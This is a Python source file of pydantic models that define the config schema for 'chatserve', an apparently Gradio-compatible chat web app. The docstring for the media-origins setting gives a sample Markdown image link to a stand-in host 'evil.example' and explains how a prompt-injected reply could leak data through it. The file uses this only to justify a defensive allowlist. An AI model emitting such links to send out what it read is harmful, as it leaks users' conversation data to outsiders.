"""The config file's shape: pydantic models that are also the source of the JSON Schema.

Field names follow `gr.ChatInterface` so that a Gradio app translates line by line. Every field
carries an attribute docstring; they become the schema descriptions editors show.
"""

from __future__ import annotations

import re
from typing import Annotated, Any, Literal

from pydantic import Field, PrivateAttr, field_validator

from chatserve.config.base import ConfigModel
from chatserve.config.cases import Case, Expect
from chatserve.config.inputs import Accordion, AdditionalInput, valid_file_types
from chatserve.config.outputs import AdditionalOutput
from chatserve.config.server import ServerConfig, web_origin
from chatserve.config.sizes import ByteSize, parse_size
from chatserve.config.source import Key, Source
from chatserve.config.theme import THEMES, CustomTheme

_CSS_LENGTH = re.compile(r"^(0|\d+(\.\d+)?(px|em|rem|vh|vw|dvh|svh|lvh|%))$")
_FN_SPEC = re.compile(r"^[^:\s]+:[A-Za-z_][A-Za-z0-9_]*(\.[A-Za-z_][A-Za-z0-9_]*)*$")
_LANGUAGE = re.compile(r"^(auto|[A-Za-z]{2,3}(-[A-Za-z0-9]{1,8})*)$")
"""`auto`, or a BCP 47 language tag: a language, then subtags (script, region, ...)."""

CssLength = Annotated[
    int | str,
    Field(
        json_schema_extra={
            "anyOf": [
                {"type": "integer", "minimum": 1},
                # the validator strips the text before matching
                {"type": "string", "pattern": rf"^\s*{_CSS_LENGTH.pattern[1:-1]}\s*$"},
            ]
        }
    ),
]


def is_url(value: str) -> bool:
    """Whether a config value names a web address rather than a file beside the config."""
    return value.startswith(("http://", "https://"))


class LatexDelimiter(ConfigModel):
    """A pair of delimiters around math."""

    left: str = Field(min_length=1)
    """Opening delimiter, e.g. `$$` or `\\(`."""
    right: str = Field(min_length=1)
    """Closing delimiter."""
    display: bool
    """`true` typesets the math as a block of its own, `false` inline."""


class MCPConfig(ConfigModel):
    """The MCP endpoint, turned on with settings (`mcp: true` takes the defaults)."""

    sessions: bool = True
    """Give each client a session (`Mcp-Session-Id`) on which it hears that the tool changed
    after a reload. Sessions live in one process, so only a server running as one process
    (`chatserve serve` without `--workers`, no `server.database` or `server.storage`) has them;
    `false` keeps it stateless too, as replicas behind a load balancer without a shared store
    need."""


class ChatbotConfig(ConfigModel):
    """Settings of the message list (Gradio's `gr.Chatbot`)."""

    placeholder: str | None = None
    """Markdown (or sanitized HTML) shown centred in the chat before the first message."""

    height: CssLength | None = None
    """Height of the message list: pixels as an integer, or a CSS length such as `70vh`.
    Unset, the chat fills the window."""

    type: Literal["messages", "tuples"] = "messages"
    """Shape of `history` given to the chat function: `messages` (OpenAI-style dicts) or the
    deprecated `tuples` (`[[user, assistant], ...]` pairs)."""

    min_height: CssLength | None = None
    """The message list never gets shorter than this."""

    max_height: CssLength | None = None
    """The message list never gets taller than this; it scrolls beyond."""

    avatar_images: list[str | None] | None = Field(None, min_length=2, max_length=2)
    """`[user, bot]`: image paths (relative to the config) or http(s) URLs; null for none."""

    layout: Literal["bubble", "panel"] = "bubble"
    """`bubble`: chat bubbles; `panel`: full-width rows, like LLM playgrounds."""

    render_markdown: bool = True
    """Render messages as Markdown; `false` shows them as plain text."""

    sanitize_html: bool = True
    """Keep only safe tags and attributes in messages. `false` allows styling attributes
    too; scripts and event handlers are removed either way."""

    latex_delimiters: list[LatexDelimiter] = [LatexDelimiter(left="$$", right="$$", display=True)]
    """Math between these delimiters is typeset (KaTeX, loaded only when math appears);
    `[]` turns math off."""

    line_breaks: bool = True
    """A single newline in a message is a line break (GitHub-flavoured Markdown)."""

    rtl: bool = False
    """Right-to-left text."""

    show_copy_button: bool = True
    """A copy button on each reply."""

    show_copy_all_button: bool = False
    """A button that copies the whole conversation."""

    watermark: str | None = None
    """Text appended (after a blank line) to whatever is copied."""

    group_consecutive_messages: bool = True
    """Consecutive messages of one side share one group (one avatar, one set of buttons)."""

    allow_file_downloads: bool = True
    """A download button on images, audio and video."""

    resizable: bool = False
    """Let the user drag the message list taller or shorter."""

    @field_validator("height", "min_height", "max_height")
    @classmethod
    def _css_length(cls, value: int | str | None) -> int | str | None:
        if isinstance(value, int) and value <= 0:
            raise ValueError(f"must be a positive number of pixels, got {value}")
        if isinstance(value, str) and not _CSS_LENGTH.match(value.strip()):
            raise ValueError(f"must be an integer or a CSS length such as '70vh', got {value!r}")
        return value


class TextboxConfig(ConfigModel):
    """Settings of the message box (Gradio's `gr.Textbox`)."""

    placeholder: str | None = None
    """Hint shown in the empty message box. Default: "Type a message…"."""

    lines: int = Field(1, ge=1, le=50)
    """Rows of the empty message box."""

    max_lines: int = Field(20, ge=1, le=100)
    """The message box grows with its text up to this many rows."""

    max_length: int | None = Field(None, ge=1)
    """Longest message accepted, in characters; a counter appears as the limit nears."""

    submit_btn: str | bool | None = None
    """Overrides the top-level `submit_btn` (as on Gradio's textbox)."""

    stop_btn: str | bool | None = None
    """Overrides the top-level `stop_btn`."""

    autofocus: bool | None = None
    """Overrides the top-level `autofocus`."""

    file_types: list[str] | None = None
    """With `multimodal`: the files accepted, as kinds (`image`, `audio`, `video`, `text`) or
    extensions (`.pdf`). Default: any file."""

    file_count: Literal["single", "multiple"] = "single"
    """With `multimodal`: one file per message, or several."""

    max_file_size: ByteSize | None = None
    """With `multimodal`: the largest file accepted. Default: `server.max_upload_size`."""

    @field_validator("max_file_size")
    @classmethod
    def _size(cls, value: int | str | None) -> int | None:
        return None if value is None else parse_size(value)

    @field_validator("file_types")
    @classmethod
    def _file_types(cls, value: list[str] | None) -> list[str] | None:
        return valid_file_types(value)


class ExampleMessage(ConfigModel):
    """A multimodal example: text and files (paths relative to the config file)."""

    text: str = ""
    """The message text."""

    files: list[str] = []
    """Files sent with the example, relative to the config file."""

    expect: Expect | None = None
    """What the reply to this example must be: `chatserve test` runs the example as a test
    (with a row's input values, else the defaults)."""


class Config(ConfigModel):
    """A chatserve bot: the chat function and everything its web app shows."""

    version: Literal[1] = 1
    """Config format version. Only `1` exists; leaving it out means `1`."""

    fn: Annotated[str, Field(json_schema_extra={"pattern": _FN_SPEC.pattern})]
    """The chat function: `package.module:function` (imported with the config's folder on
    `sys.path`) or `path/to/file.py:function` (relative to the config file)."""

    title: str | None = None
    """Shown above the chat in large type and used as the browser tab title."""

    description: str | None = None
    """Markdown shown under the title."""

    multimodal: bool = False
    """Let users attach files; the chat function's `message` becomes `{"text", "files"}`."""

    examples: list[str | ExampleMessage | list[Any]] | None = None
    """Example messages shown in the empty chat; clicking one sends it. With `multimodal`,
    `{text, files}` mappings; with `additional_inputs`, rows `[message, value, ...]` shown as a
    table under the chat (a message alone is sent with the inputs' current values)."""

    tests: list[Case] | str | None = None
    """Tests `chatserve test` runs: a list of cases, or the name of a file beside the config
    (such as `bot.tests.yaml`) that holds the list."""

    chatbot: ChatbotConfig = ChatbotConfig()
    """The message list."""

    textbox: TextboxConfig = TextboxConfig()
    """The message box."""

    submit_btn: str | bool = True
    """`true` shows the Send button with an icon, a string shows it with that text,
    `false` hides it (Enter still sends)."""

    stop_btn: str | bool = True
    """While a reply streams: `true` shows the Stop button with an icon, a string shows it
    with that text, `false` hides it."""

    autofocus: bool = True
    """Focus the message box when the page loads."""

    theme: Literal[THEMES] | CustomTheme = "default"  # type: ignore[valid-type]
    """A built-in theme, or a mapping `{base, primary, secondary, neutral, font, font_mono,
    radius, spacing}` that adjusts one. Each has a light and a dark mode; the page follows
    the system setting unless the visitor picks one with the toggle in the header."""

    css: str | None = None
    """CSS added to the page after the app's own (see the `--cs-*` properties)."""

    css_paths: list[str] = []
    """CSS files (relative to the config) added after `css`."""

    js: str | None = None
    """A JavaScript function, as text, run once when the page loads."""

    head: str | None = None
    """HTML added to the page's `<head>` (meta tags, scripts, stylesheets)."""

    head_paths: list[str] = []
    """HTML files (relative to the config) added to `<head>` after `head`."""

    allowed_media_origins: list[str] | None = None
    """Web origins (`https://images.example.com`) the page may load images, audio and video
    from, besides the server itself (and the URLs of `avatar_images` and `example_icons`).
    A reply's image loads as soon as it shows, so a prompt-injected reply can send what it
    read to any host it names (`![](https://evil.example/?q=...)`). Null: any http(s) host;
    `[]`: only the server's own files and `data:` images."""

    fill_height: bool = True
    """The chat fills the window's height; `false` lets the page grow and scroll."""

    fill_width: bool = False
    """Use the window's full width instead of a centred column."""

    autoscroll: bool = True
    """Follow new text to the bottom, unless the user scrolled up."""

    show_progress: Literal["full", "minimal", "hidden"] = "minimal"
    """While waiting for a reply: `full` (animation, elapsed time and place in line),
    `minimal` (elapsed time) or `hidden`."""

    editable: bool = False
    """Users can edit their past messages; the conversation is cut there and answered anew."""

    save_history: bool | Literal["browser", "server"] = False
    """Keep past conversations and list them in a side panel: `browser` (or `true`) keeps
    them in the browser; `server` in the server's database, per signed-in user (per browser
    without `server.auth`), so they follow the user to any device (see "Saved
    conversations")."""

    language: Annotated[str, Field(json_schema_extra={"pattern": _LANGUAGE.pattern})] = "auto"
    """The language of the page's own words (labels, hints, errors) and of the sign-in page:
    `auto` follows the visitor's browser (German, English, Spanish, French, Japanese or
    Simplified Chinese, else English); a BCP 47 tag (`fr`, `pt-BR`) sets it for everyone,
    English where chatserve has no words for it. The config's own words stay as written."""

    texts: dict[str, str] = {}
    """Your words for any of the page's, by key (`composer.placeholder: Ask me anything…`),
    in whichever language is shown; the keys are in `web/src/texts/en.json`."""

    example_labels: list[str] | None = None
    """Text shown on each example instead of the example itself (same length as `examples`)."""

    example_icons: list[str] | None = None
    """An icon per example: image paths (relative to the config) or http(s) URLs."""

    run_examples_on_click: bool = True
    """Clicking an example sends it; `false` only puts it in the message box (unless its
    answer is cached)."""

    cache_examples: bool = False
    """Compute each example's answer once and keep it in the data dir: clicking the example
    shows it at once (a generator's final reply, replayed as a quick stream). Editing the
    example, its inputs or the chat function's module computes it anew."""

    cache_mode: Literal["eager", "lazy"] = "eager"
    """With `cache_examples`: `eager` computes every answer at start-up (and after a reload),
    `lazy` on the first click by anyone."""

    flagging_mode: Literal["never", "manual"] = "never"
    """`manual` lets users rate each reply with `flagging_options`."""

    flagging_options: list[str] = ["Like", "Dislike"]
    """The ratings offered; `Like` and `Dislike` show as thumbs, the rest in a flag menu."""

    flagging_dir: str | None = None
    """Folder (relative to the config) of the flag store (`flags.sqlite3` and copies of the
    files flagged replies show). Default: `flagged` in the data dir."""

    additional_inputs: list[AdditionalInput] = []
    """Extra controls whose values reach the chat function after `history`, in order: a type
    (`textbox`, `number`, `slider`, `checkbox`, `dropdown`, `radio`, `checkboxgroup`, `file`,
    `image`) or a mapping with `type`, `label`, `value`, `info` and the type's options
    (Gradio's names)."""

    additional_inputs_accordion: str | Accordion | None = None
    """The accordion holding the additional inputs: its label, or `{label, open}`."""

    additional_outputs: list[AdditionalOutput] = []
    """Panels beside the chat (`markdown`, `code`, `json`, `html`, `image`); the chat function
    then returns `(reply, value, ...)`."""

    concurrency_limit: int | None = Field(None, ge=1)
    """How many chats may run at once; the rest wait in line and see their place.
    Null: no limit."""

    delete_cache: list[Annotated[int, Field(ge=1)]] | None = Field(None, min_length=2, max_length=2)
    """`[frequency, age]` in seconds: at start-up and then every `frequency` seconds, delete
    the uploads, the files the bot made and the unused cached example answers last modified
    over `age` seconds ago. The flag store is never touched. Null: keep everything."""

    api_name: Annotated[str, Field(pattern=r"^[A-Za-z0-9_-]+$")] | Literal[False] = "chat"
    """The chat route is `POST /api/<api_name>`. `false` keeps it for the web page but leaves
    it out of the OpenAPI document and turns the OpenAI-compatible `/v1/*` routes off.
    Read at start-up: a change needs a restart."""

    show_api: bool = True
    """A "Use via API" link under the chat, as in Gradio: it opens ready-to-paste `curl`,
    Python (`httpx`) and `openai` snippets for this bot, its additional inputs filled in from
    their defaults. `false` hides it (the API still answers); `api_name: false` hides it too."""

    mcp: bool | MCPConfig = False
    """Serve the bot as a tool of a Model Context Protocol server at `/mcp` (Streamable HTTP;
    needs `pip install 'chatserve[mcp]'`). `chatserve serve --mcp` turns it on too; a mapping
    turns it on with settings. Read at start-up: a change needs a restart."""

    analytics_enabled: bool = False
    """Accepted for Gradio compatibility; chatserve never sends telemetry."""

    server: ServerConfig = ServerConfig()
    """Server settings."""

    _source: Source | None = PrivateAttr(default=None)

    @field_validator("allowed_media_origins")
    @classmethod
    def _media_origins(cls, value: list[str] | None) -> list[str] | None:
        return None if value is None else [web_origin(origin) for origin in value]

    @field_validator("css_paths", "head_paths", mode="before")
    @classmethod
    def _one_path(cls, value: Any) -> Any:
        return [value] if isinstance(value, str) else value

    @field_validator("additional_inputs", "additional_outputs", mode="before")
    @classmethod
    def _shortcuts(cls, value: Any) -> Any:
        # Gradio accepts "textbox" for gr.Textbox(); so do we.
        if isinstance(value, list):
            return [{"type": item} if isinstance(item, str) else item for item in value]
        return value

    @field_validator("additional_inputs_accordion", mode="before")
    @classmethod
    def _accordion_label(cls, value: Any) -> Any:
        return {"label": value} if isinstance(value, str) else value

    @property
    def accordion(self) -> Accordion:
        return self.additional_inputs_accordion or Accordion()  # type: ignore[return-value]

    @field_validator("delete_cache", mode="before")
    @classmethod
    def _frequency_and_age(cls, value: Any) -> Any:
        if value is not None and not (isinstance(value, list) and len(value) == 2):
            raise ValueError(
                f"must be [frequency, age] in seconds, such as [3600, 86400], got {value!r}"
            )
        return value

    @field_validator("language")
    @classmethod
    def _language_tag(cls, value: str) -> str:
        if not _LANGUAGE.match(value):
            raise ValueError(
                f"must be 'auto' or a language tag such as 'de' or 'pt-BR', got {value!r}"
            )
        return value

    @field_validator("fn")
    @classmethod
    def _fn_spec(cls, value: str) -> str:
        if not _FN_SPEC.match(value):
            raise ValueError(
                f'{value!r} must be in format "<module>:<function>" or "<file.py>:<function>"'
            )
        return value

    @property
    def history_mode(self) -> Literal["browser", "server"] | None:
        """Where past conversations are kept: `save_history`, with `true` meaning `browser`."""
        return "browser" if self.save_history is True else self.save_history or None

    @property
    def chat_path(self) -> str:
        """The chat route's path: `/api/<api_name>`; with `api_name: false` the page still
        needs one, `/api/chat`, left out of the API's documents."""
        return f"/api/{self.api_name or 'chat'}"

    def named_files(self) -> list[tuple[Key, str]]:
        """The local files the page is made with (`css_paths`, `head_paths`, avatar images,
        example icons; URLs left out), each with its key: the checks look for them, the
        watcher reloads when they change."""
        avatars = self.chatbot.avatar_images or ()
        return [
            *((("css_paths", i), name) for i, name in enumerate(self.css_paths)),
            *((("head_paths", i), name) for i, name in enumerate(self.head_paths)),
            *(
                (("chatbot", "avatar_images", i), name)
                for i, name in enumerate(avatars)
                if name and not is_url(name)
            ),
            *(
                (("example_icons", i), name)
                for i, name in enumerate(self.example_icons or ())
                if not is_url(name)
            ),
        ]

    @property
    def source(self) -> Source:
        """Where each key came from, for error messages about checks done after loading."""
        if self._source is None:
            raise RuntimeError("this Config was not loaded from a file")
        return self._source
